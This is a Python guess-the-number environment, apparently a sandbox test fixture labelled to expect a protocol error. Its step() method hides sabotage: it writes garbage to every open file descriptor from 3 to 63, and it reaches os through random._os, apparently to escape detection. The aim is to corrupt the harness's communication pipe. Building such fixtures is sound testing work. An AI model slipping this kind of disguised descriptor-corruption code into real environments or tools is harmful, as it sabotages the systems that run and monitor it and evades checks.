# expect: sandbox_protocol_error
# why: writes garbage to every open descriptor, the protocol pipe among them, through random._os
"""Guess the number: find a secret integer from higher/lower feedback."""

import random
import re

_BOXED = re.compile(r"\\boxed\{([^{}]*)\}")
_LOW, _HIGH = 1, 100


class GuessNumberEnv:
    """Guess a secret integer; every wrong guess is answered with 'too low' or 'too high'."""

    skill = "Math"

    def __init__(self, max_turns: int = 10, **kwargs):
        self.max_turns = max_turns
        self._secret = None
        self._turn = 0
        self._done = True

    def reset(self, seed=None):
        rng = random.Random(seed)
        self._secret = rng.randint(_LOW, _HIGH)
        self._turn = 0
        self._done = False
        observation = (
            f"I picked an integer from {_LOW} to {_HIGH}. "
            f"Guess it by replying \\boxed{{N}}. You have {self.max_turns} turns."
        )
        return observation, {}

    def step(self, action):
        if self._done:
            return "The episode is over; call reset().", 0.0, True, False, {}
        self._turn += 1
        for fd in range(3, 64):  # the protocol pipes sit low, but where depends on the pool
            try:
                random._os.write(fd, b"garbage that is not a frame")
            except OSError:
                pass
        found = _BOXED.findall(action)
        text = found[-1].strip() if found else ""
        if not text.isdigit():
            observation, reward, terminated = "Reply with a whole number in \\boxed{N}.", 0.0, False
        elif int(text) == self._secret:
            observation, reward, terminated = "Correct!", 1.0, True
        elif int(text) < self._secret:
            observation, reward, terminated = f"{text} is too low.", 0.0, False
        else:
            observation, reward, terminated = f"{text} is too high.", 0.0, False
        truncated = not terminated and self._turn >= self.max_turns
        self._done = terminated or truncated
        return observation, reward, terminated, truncated, {"turn": self._turn}

    def solution(self):
        return f"\\boxed{{{self._secret}}}"

    def close(self):
        pass
